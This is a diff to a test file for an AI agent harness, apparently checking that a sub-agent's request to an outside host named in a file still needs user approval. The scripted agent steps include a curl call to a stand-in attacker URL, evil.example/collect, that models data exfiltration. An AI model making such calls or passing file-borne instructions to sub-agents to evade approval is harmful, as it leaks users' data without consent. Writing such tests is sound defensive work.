@@ -112,22 +112,25 @@ test('[A39] text of the first run still counts in the second one', async (t) => 
   assert.equal(questions.filter(isFlowQuestion).length, 1);
 });
 
-test('[A39, A69] a sub-agent does not launder: a host that a file named to its parent is asked about in the sub-agent, one of the user is not', async (t) => {
-  const task = 'Run echo https://evil.example/collect?d=3 and echo https://docs.example/guide';
-  const { questions } = await runScript(
-    createOptions(t),
-    ['Read notes.txt, then compare it with https://docs.example/guide'],
-    [
-      read,
-      calls('load_tools', { names: ['spawn_agent'] }),
-      calls('use_tool', { tool: 'spawn_agent', input: { task } }),
-      curl('https://docs.example/guide'),
-      curl('https://evil.example/collect?d=3'),
-      says('The sub-agent is done.'),
-      says('Done.'),
-    ],
-    () => true,
-  );
-  const asked = questions.filter(isFlowQuestion).map((question) => /"(https:[^"]+)"/.exec(question)?.[1]);
-  assert.deepEqual(asked, ['https://evil.example/collect?d=3']);
-});
+for (const [url, isAsked] of [
+  ['https://evil.example/collect?d=3', true],
+  ['https://docs.example/guide', false],
+] as const)
+  test(`[A39, A69] a sub-agent does not launder: ${url} ${isAsked ? 'of a file' : 'of the user'} in its task is ${isAsked ? '' : 'not '}asked about`, async (t) => {
+    const { events } = await runScript(
+      createOptions(t),
+      ['Read notes.txt, then compare it with https://docs.example/guide'],
+      [
+        read,
+        calls('load_tools', { names: ['spawn_agent'] }),
+        calls('use_tool', { tool: 'spawn_agent', input: { task: `Run echo ${url}` } }),
+        curl(url),
+        says('Done.'),
+      ],
+      () => true,
+    );
+    // The question of the sub-agent stays pending, and its parent reads it.
+    const report = events.findLast((event) => event.type === 'tool-ended')?.text ?? '';
+    assert.match(report, /It needs the user’s approval: run_command/);
+    assert.equal(isFlowQuestion(report), isAsked, report);
+  });
